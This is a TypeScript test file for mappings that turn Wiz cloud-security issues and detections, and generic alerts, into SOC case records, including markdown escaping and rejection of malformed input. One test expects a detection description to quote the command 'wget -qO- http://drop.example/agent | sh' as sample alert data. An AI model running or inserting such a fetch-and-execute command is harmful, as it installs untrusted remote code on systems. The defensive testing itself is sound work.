import jsonata from 'jsonata';
import { describe, expect, it } from 'vitest';
import { type MappedCase, parseMapped } from '../mapping.ts';
import { GENERIC_MAPPING } from './generic.ts';
import { GENERIC_ALERT, GENERIC_WRAPPED, WIZ_DETECTION, WIZ_EDITED_TEMPLATE, WIZ_ISSUE } from './samples.ts';
import { oddBodies } from './testing/odd-bodies.ts';
import { WIZ_MAPPING } from './wiz.ts';

const wiz = jsonata(WIZ_MAPPING);
const generic = jsonata(GENERIC_MAPPING);
const read = async (expression: jsonata.Expression, body: unknown) => parseMapped(await expression.evaluate(body));

async function mapped(expression: jsonata.Expression, body: unknown): Promise<MappedCase> {
  const result = await read(expression, body);
  if (!result.ok) throw new Error(result.reason);
  expect(result.notes).toEqual([]);
  return result.value;
}

describe('the Wiz issue body', () => {
  it('becomes a case with all its facts', async () => {
    const { description, ...facts } = await mapped(wiz, WIZ_ISSUE);
    expect(facts).toEqual({
      objectKey: '0c6f1f52-93b1-4f3c-8d4e-b6a1d5a50a17',
      title: 'Virtual machine open to the internet can read cardholder data',
      severity: 'high',
      rule: 'wc-id-1177',
      status: 'OPEN',
      eventType: 'Created',
      category: 'Cloud',
      tags: ['Loyalty App', 'Cardholder Data'],
      customFields: {
        cloudPlatform: 'AWS',
        subscription: 'loyalty-prod',
        subscriptionId: '444455556666',
        region: 'eu-central-1',
        resource: 'loyalty-api-3',
        resourceId: WIZ_ISSUE.resource.id,
        resourceType: 'ec2#instance',
        control: WIZ_ISSUE.control.name,
        controlId: 'wc-id-1177',
        automationRule: 'Send open issues to the SOC',
      },
      links: [{ title: 'Cloud console', url: WIZ_ISSUE.resource.cloudProviderURL }],
      techniques: [],
      tactics: [],
      eventTime: '2026-02-03T09:14:22.518Z',
      observables: [{ type: 'cloud_resource', value: WIZ_ISSUE.resource.id, role: 'own' }],
    });
    expect(description?.split('\n')).toEqual([
      'A machine that anybody can reach has a role that reads the buckets with payment data.',
      '',
      '### Resource',
      '',
      '- **Name:** `loyalty-api-3`',
      '- **Type:** `ec2#instance`',
      `- **Id:** \`${WIZ_ISSUE.resource.id}\``,
      '- **Platform:** `AWS`',
      '- **Subscription:** `loyalty-prod`',
      '- **Region:** `eu-central-1`',
    ]);
  });

  it('is read from a template that a customer has edited', async () => {
    const value = await mapped(wiz, WIZ_EDITED_TEMPLATE);
    expect(value).toMatchObject({
      objectKey: WIZ_EDITED_TEMPLATE.id,
      title: 'Bucket can be read by anybody',
      severity: 'medium',
      status: 'RESOLVED',
      eventType: 'Resolved',
      tags: ['Loyalty App'],
      links: [{ title: 'Wiz issue', url: WIZ_EDITED_TEMPLATE.url }],
      eventTime: '2026-02-04T12:00:00.000Z',
      observables: [],
    });
    expect(value.customFields).not.toHaveProperty('region');
    expect(value.description).toContain('### Changed\n\n- status: Open → Resolved');
    expect(value.description).toContain('### Notes\n\n- The bucket is private now.\n\n### Resolution\n\nFixed by');
  });

  it.each<[string, object, Partial<MappedCase>]>([
    ['no status: open', { id: 'a', severity: 'LOW' }, { title: 'Wiz issue a', status: 'OPEN', severity: 'low' }],
    ['no status, and resolved', { id: 'a', severity: 'LOW', trigger: { type: 'RESOLVED' } }, { status: 'RESOLVED' }],
    ['a trigger that is a text', { id: 'a', severity: 'LOW', trigger: 'Reopened' }, { eventType: 'Reopened' }],
    [
      'variables that nobody filled in',
      { id: 'a', severity: 'LOW', name: '{{control.name}}' },
      { title: 'Wiz issue a' },
    ],
    ['a threat id beside the issue', { threatId: 't', issue: { id: 'a', severity: 'LOW' } }, { objectKey: 'a' }],
    ['a status of two words', { id: 'a', severity: 'LOW', status: 'In progress' }, { status: 'IN_PROGRESS' }],
    ["the control's severity", { id: 'a', control: { severity: 'HIGH' } }, { severity: 'high' }],
    ['one project', { issue: { id: 'a', severity: 'LOW', projects: 'Web' } }, { tags: ['Web'] }],
    ['no project', { issue: { id: 'a', severity: 'LOW', projects: '' } }, { tags: [] }],
    [
      'projects as a list',
      { issue: { id: 'a', severity: 'LOW', projects: ['Web', 'Till'] } },
      { tags: ['Web', 'Till'] },
    ],
    [
      'notes as one text',
      { issue: { id: 'a', severity: 'LOW', notes: 'Look.' } },
      { description: '### Notes\n\n- Look.' },
    ],
    [
      'the rule behind a threat',
      { issue: { id: 'a', severity: 'LOW', enrichedMainDetection: { rule: { name: 'R', description: 'D' } } } },
      { title: 'R', description: 'D', customFields: { ruleName: 'R' } },
    ],
    [
      'its address',
      { issue: { id: 'a', severity: 'LOW', url: 'https://w.example/a' } },
      { links: [{ title: 'Wiz issue', url: 'https://w.example/a' }] },
    ],
  ])('%s', async (_name, body, expected) => {
    expect(await mapped(wiz, body)).toMatchObject(expected);
  });
});

describe('the Wiz detection body', () => {
  it('becomes a case of its threat, of the primary resource', async () => {
    const { description, ...facts } = await mapped(wiz, WIZ_DETECTION);
    expect(facts).toEqual({
      objectKey: WIZ_DETECTION.threatId,
      title: WIZ_DETECTION.title,
      severity: 'critical',
      rule: 'wd-2204',
      status: 'OPEN',
      eventType: 'Created',
      category: 'Cloud',
      tags: [],
      customFields: {
        cloudPlatform: 'AWS',
        subscription: '444455556666',
        subscriptionId: '444455556666',
        region: 'eu-central-1',
        resource: 'checkout-5',
        resourceId: 'pod/checkout-5',
        resourceType: 'pod',
        automationRule: 'Send detections to the SOC',
        threatId: WIZ_DETECTION.threatId,
        detectionId: WIZ_DETECTION.id,
        detectedBy: 'WIZ_SENSOR',
      },
      links: [{ title: 'Wiz threat', url: WIZ_DETECTION.threatURL }],
      techniques: ['T1059.004', 'T1105'],
      tactics: ['TA0002', 'TA0011'],
      eventTime: '2026-02-03T10:02:59.000Z',
      observables: [
        { type: 'cloud_resource', value: 'pod/checkout-5', role: 'own' },
        { type: 'user', value: 'checkout-role', role: 'related' },
        { type: 'user', value: 'AIDADOCUMENTATION', role: 'related' },
      ],
    });
    expect(description).toContain(
      '- **ProcessExecuted** at 2026-02-03T10:02:40Z from `203.0.113.140`\n  A process was started.',
    );
    expect(description).toContain('\n~~~~\nsh -c "wget -qO- http://drop.example/agent | sh"\n~~~~');
  });

  it('keeps the lines of a description', async () => {
    const value = await mapped(wiz, { ...WIZ_DETECTION, description: 'One.\n\n- two', triggeringEvents: [] });
    expect(value.description).toMatch(/^One\.\n\n- two\n\n### Resource\n/);
    expect(await mapped(generic, { ...GENERIC_ALERT, description: 'a\nb' })).toMatchObject({ description: 'a\nb' });
  });

  it('stands for itself where it belongs to no threat', async () => {
    expect(await mapped(wiz, { ...WIZ_DETECTION, threatId: '' })).toMatchObject({ objectKey: WIZ_DETECTION.id });
  });

  it.each([{ trigger: { source: 'DETECTION' } }, { tdrId: '' }, { triggeringEventsCount: 0 }])(
    'is known by %j',
    async (sign) => {
      expect(await mapped(wiz, { id: 'd', title: 'T', severity: 'LOW', ...sign })).toMatchObject({
        title: 'T',
        customFields: { detectionId: 'd' },
      });
    },
  );

  it('keeps a command within its block and a name within its line', async () => {
    const event = {
      name: 'E',
      actorIP: '`\n# x',
      runtimeDetails: { processTree: [{ command: 'a\n~~~~\n# out' }, { command: '' }] },
    };
    const { description } = await mapped(wiz, { ...WIZ_DETECTION, triggeringEvents: [event] });
    expect(description?.match(/^~~~~$/gm)).toHaveLength(2);
    expect(description).toContain("from `'# x`");
  });
});

describe('a generic alert', () => {
  it('with the plain names', async () => {
    expect(await mapped(generic, GENERIC_ALERT)).toEqual({
      objectKey: 'alert-17',
      title: 'Many failed sign-ins at the till server',
      severity: 'high',
      status: 'open',
      category: 'Identity & Access',
      description: 'Forty failed sign-ins within a minute.',
      tags: ['till', 'store-12'],
      customFields: { store: '12', count: 40 },
      links: [{ title: 'Open at the source', url: 'https://alerts.example/alert-17' }],
      techniques: ['T1110'],
      tactics: [],
      eventTime: '2026-02-03T10:00:00.000Z',
      observables: [{ type: 'ipv4', value: '198.51.100.23', role: 'implicated' }, { value: 'drop.example' }],
    });
  });

  it('wrapped, with other names', async () => {
    expect(await read(generic, GENERIC_WRAPPED)).toMatchObject({
      ok: true,
      value: {
        objectKey: '991',
        title: 'Disk almost full',
        severity: 'medium',
        tags: ['disk', 'capacity'],
        links: [{ url: 'https://monitor.example/a/991' }],
        observables: [{ value: 'till-12.corp.example' }],
      },
      notes: ['observables: the type host is not known and was left out.'],
    });
  });

  it.each<[string, object, Partial<MappedCase>]>([
    ['a priority', { priority: 'P1' }, { severity: 'critical' }],
    ['a level', { level: 'error' }, { severity: 'high' }],
    ['no severity at all', {}, { severity: 'medium' }],
    ['a severity before a level', { severity: 'low', level: 'error' }, { severity: 'low' }],
    ['a message', { message: 'm' }, { description: 'm' }],
    [
      'several links',
      { links: ['https://a.example', { name: 'B', href: 'https://b.example' }] },
      {
        links: [
          { title: 'a.example', url: 'https://a.example' },
          { title: 'B', url: 'https://b.example' },
        ],
      },
    ],
    ['a technique with its name', { techniques: 'T1059 - Command Interpreter' }, { techniques: ['T1059'] }],
    [
      'one indicator',
      { iocs: { type: 'domain', ioc: 'drop.example' } },
      { observables: [{ type: 'domain', value: 'drop.example' }] },
    ],
  ])('with %s', async (_name, change, expected) => {
    expect(await mapped(generic, { id: 'a', name: 'N', ...change })).toMatchObject({ title: 'N', ...expected });
  });

  it('with a severity that nobody knows is refused', async () => {
    expect(await read(generic, { id: 'a', name: 'N', severity: 'purple' })).toMatchObject({ ok: false });
  });
});

describe('a body of another shape is refused, never an error', () => {
  const strange = [{}, [], [1], 'x', 5, null, { hello: 'x' }, { issue: '' }, { issue: {} }, { id: 'a' }, [WIZ_ISSUE]];
  it.each(strange)('%j', async (body) => {
    expect(await read(wiz, body)).toMatchObject({ ok: false });
    expect(await read(generic, body)).toMatchObject({ ok: false });
  });

  it.each([
    ['the Wiz issue', wiz, WIZ_ISSUE],
    ['the Wiz detection', wiz, WIZ_DETECTION],
    ['the edited template', wiz, WIZ_EDITED_TEMPLATE],
    ['the generic alert', generic, GENERIC_ALERT],
    ['the wrapped alert', generic, GENERIC_WRAPPED],
  ])('%s with any one field replaced', async (_name, expression, body) => {
    for (const { what, odd } of oddBodies(body)) {
      const result = await read(expression, odd).catch((error) => String(error.message ?? error));
      expect(result, what).toHaveProperty('ok');
    }
  });
});
